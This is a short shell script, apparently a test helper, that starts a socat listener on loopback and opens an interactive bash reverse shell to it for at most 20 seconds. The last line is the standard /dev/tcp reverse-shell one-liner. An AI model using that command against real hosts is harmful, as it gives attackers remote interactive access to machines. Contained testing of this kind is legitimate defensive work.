#!/bin/sh
# Opens a reverse shell to a listener on loopback, for at most 20 seconds. For throw-away test hosts only; needs socat.
set -eu
port="${1:-47811}"
sleep 20 | socat - "TCP-LISTEN:$port,bind=127.0.0.1,reuseaddr" &
listener=$!
trap 'kill "$listener" 2>/dev/null || true' EXIT
sleep 1
bash -c "exec bash -i >/dev/tcp/127.0.0.1/$port 0<&1 2>&1" || true
